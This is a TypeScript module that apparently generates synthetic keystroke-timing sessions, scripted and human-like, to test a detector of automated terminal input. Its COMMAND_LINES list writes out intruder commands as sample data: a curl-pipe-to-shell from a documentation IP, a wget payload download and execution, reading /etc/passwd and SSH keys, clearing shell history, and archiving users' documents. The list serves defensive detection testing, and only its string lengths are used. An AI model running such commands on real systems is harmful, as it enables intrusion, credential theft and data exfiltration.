/**
 * Generated automation sessions, the four classes the scorer must catch,
 * each with randomised parameters from a seed:
 * 1. line-at-once: a whole command line per input, 0.5–5 s apart;
 * 2. fixed-delay: one byte every d ms, d constant per session in 10–150;
 * 3. timer-jitter: one byte per delay drawn uniformly within ±30 % of a
 *    per-session mean in 20–100 ms;
 * 4. burst: each line's bytes less than 5 ms apart, think pauses between lines.
 *
 * Also the human habits that alone must not raise an alert (paste, key
 * autorepeat, arrow keys, tab completion), spliced into a human session.
 *
 * @module
 */
import type { InputEvent } from "./human_sessions.ts";
import { type SeededRandom, seededRandom } from "./seeded_random.ts";

/** The automation classes, in table order. */
export const AUTOMATION_CLASSES = [
  "line-at-once",
  "fixed-delay",
  "timer-jitter",
  "burst",
] as const;

/** One automation class. */
export type AutomationClass = typeof AUTOMATION_CLASSES[number];

/** A generated session and the parameters drawn for it. */
export interface AutomationSession {
  /** Which class generated it. */
  kind: AutomationClass;
  /** The randomised parameters, for reports (ms where a time). */
  parameters: Record<string, number>;
  /** Input events in time order, from t = 0. */
  events: InputEvent[];
}

/** Options of {@linkcode generateAutomationSession}. */
export interface GenerateAutomationOptions {
  /** Seed of every random choice. */
  seed: number;
  /** Input events to generate; default 200. */
  inputs?: number;
}

/** Command lines an intruder's tooling might send (Enter included). */
const COMMAND_LINES = [
  "id\r",
  "w\r",
  "uname -a\r",
  "whoami\r",
  "cat /etc/passwd\r",
  "ls -la /tmp\r",
  "ps aux | grep ssh\r",
  "netstat -tulpn\r",
  "cd /var/www/html\r",
  "find / -perm -4000 -type f 2>/dev/null\r",
  "curl -s http://203.0.113.7/x.sh | sh\r",
  "wget -q -O /tmp/.k http://198.51.100.2/k\r",
  "chmod +x /tmp/.k && /tmp/.k\r",
  "cat ~/.ssh/authorized_keys\r",
  "echo $PATH\r",
  "sudo -l\r",
  "crontab -l\r",
  "history -c\r",
  "export HISTFILE=/dev/null\r",
  "tar czf /tmp/d.tgz /home/*/Documents\r",
];

/** Generates one automation session of the given class. */
export function generateAutomationSession(
  kind: AutomationClass,
  options: GenerateAutomationOptions,
): AutomationSession {
  const random = seededRandom(options.seed);
  const inputs = options.inputs ?? 200;
  switch (kind) {
    case "line-at-once":
      return lineAtOnce(random, inputs);
    case "fixed-delay": {
      const delayMs = random.uniform(10, 150);
      // A sleeping script wakes a little late, by a slack under 1 ms.
      const slackMs = random.uniform(0, 1);
      return {
        kind,
        parameters: { delayMs, slackMs },
        events: paced(inputs, () => delayMs + random.uniform(0, slackMs)),
      };
    }
    case "timer-jitter": {
      const meanMs = random.uniform(20, 100);
      return {
        kind,
        parameters: { meanMs, jitter: 0.3 },
        events: paced(inputs, () => meanMs * random.uniform(0.7, 1.3)),
      };
    }
    case "burst":
      return burst(random, inputs);
  }
}

/** Generates `count` sessions of one class with seeds `seed`, `seed + 1`, … */
export function generateAutomationSessions(
  kind: AutomationClass,
  options: { count: number; seed: number; inputs?: number },
): AutomationSession[] {
  return Array.from(
    { length: options.count },
    (_, i) =>
      generateAutomationSession(kind, {
        seed: options.seed + i,
        inputs: options.inputs,
      }),
  );
}

function lineAtOnce(random: SeededRandom, inputs: number): AutomationSession {
  const events: InputEvent[] = [];
  let t = 0;
  for (let i = 0; i < inputs; i++) {
    events.push({ t, bytes: random.pick(COMMAND_LINES).length });
    t += random.uniform(500, 5000);
  }
  return { kind: "line-at-once", parameters: {}, events };
}

function paced(inputs: number, delay: () => number): InputEvent[] {
  const events: InputEvent[] = [];
  let t = 0;
  for (let i = 0; i < inputs; i++) {
    events.push({ t, bytes: 1 });
    t += delay();
  }
  return events;
}

function burst(random: SeededRandom, inputs: number): AutomationSession {
  const events: InputEvent[] = [];
  const maxGapMs = random.uniform(0.5, 5);
  let t = 0;
  while (events.length < inputs) {
    const line = random.pick(COMMAND_LINES);
    for (let i = 0; i < line.length && events.length < inputs; i++) {
      events.push({ t, bytes: 1 });
      t += random.uniform(0.05, maxGapMs);
    }
    t += random.uniform(500, 5000);
  }
  return { kind: "burst", parameters: { maxGapMs }, events };
}

/** Human habits that must not raise an alert by themselves. */
export const HUMAN_HABITS = [
  "paste",
  "autorepeat",
  "arrow-keys",
  "tab-completion",
] as const;

/** One human habit. */
export type HumanHabit = typeof HUMAN_HABITS[number];

/** Longest key hold {@linkcode spliceHabit} generates, in repeats. */
export const MAX_AUTOREPEATS = 40;

/**
 * Inserts one occurrence of a habit into a human session after input `at`
 * (shifting later inputs by its duration), as a person would produce it:
 * - paste: one input of 20–2000 bytes;
 * - autorepeat: a key held down, first repeat after 250–600 ms, then
 *   10–{@linkcode MAX_AUTOREPEATS} repeats every ~30 ms (±2 ms);
 * - arrow-keys: 2–8 arrow presses (3 bytes each) at typing pace;
 * - tab-completion: a Tab (1 byte), sometimes a second one 150–400 ms later.
 */
export function spliceHabit(
  events: readonly InputEvent[],
  habit: HumanHabit,
  options: { at: number; seed: number },
): InputEvent[] {
  const random = seededRandom(options.seed);
  const at = Math.min(Math.max(options.at, 0), events.length - 1);
  const start = events[at]?.t ?? 0;
  const inserted: InputEvent[] = [];
  let t = start;
  const step = (gapMs: number, bytes: number) => {
    t += gapMs;
    inserted.push({ t, bytes });
  };
  switch (habit) {
    case "paste":
      step(random.uniform(150, 600), random.integer(20, 2000));
      break;
    case "autorepeat": {
      step(random.uniform(80, 300), 1);
      const periodMs = random.uniform(28, 34);
      step(random.uniform(250, 600), 1);
      const repeats = random.integer(10, MAX_AUTOREPEATS);
      for (let i = 0; i < repeats; i++) step(periodMs + random.uniform(-2, 2), 1);
      break;
    }
    case "arrow-keys": {
      const presses = random.integer(2, 8);
      for (let i = 0; i < presses; i++) step(random.uniform(90, 350), 3);
      break;
    }
    case "tab-completion":
      step(random.uniform(100, 400), 1);
      if (random.next() < 0.5) step(random.uniform(150, 400), 1);
      break;
  }
  const shift = t - start + random.uniform(100, 400);
  return [
    ...events.slice(0, at + 1),
    ...inserted,
    ...events.slice(at + 1).map((e) => ({ t: e.t + shift, bytes: e.bytes })),
  ];
}

/**
 * Synthetic human-like typing for tests that run without the Aalto sample:
 * log-normal press-to-press gaps (median 188 ms, as measured on the
 * sample) with a think pause every 10–40 keys. Not a substitute for the
 * real data in calibration.
 */
export function syntheticHumanTyping(
  options: { inputs: number; seed: number },
): InputEvent[] {
  const random = seededRandom(options.seed);
  const events: InputEvent[] = [];
  let t = 0;
  let untilPause = random.integer(10, 40);
  for (let i = 0; i < options.inputs; i++) {
    events.push({ t, bytes: 1 });
    const normal = Math.sqrt(-2 * Math.log(1 - random.next())) *
      Math.cos(2 * Math.PI * random.next());
    t += 188 * Math.exp(0.55 * normal);
    if (--untilPause === 0) {
      t += random.uniform(800, 6000);
      untilPause = random.integer(10, 40);
    }
  }
  return events;
}
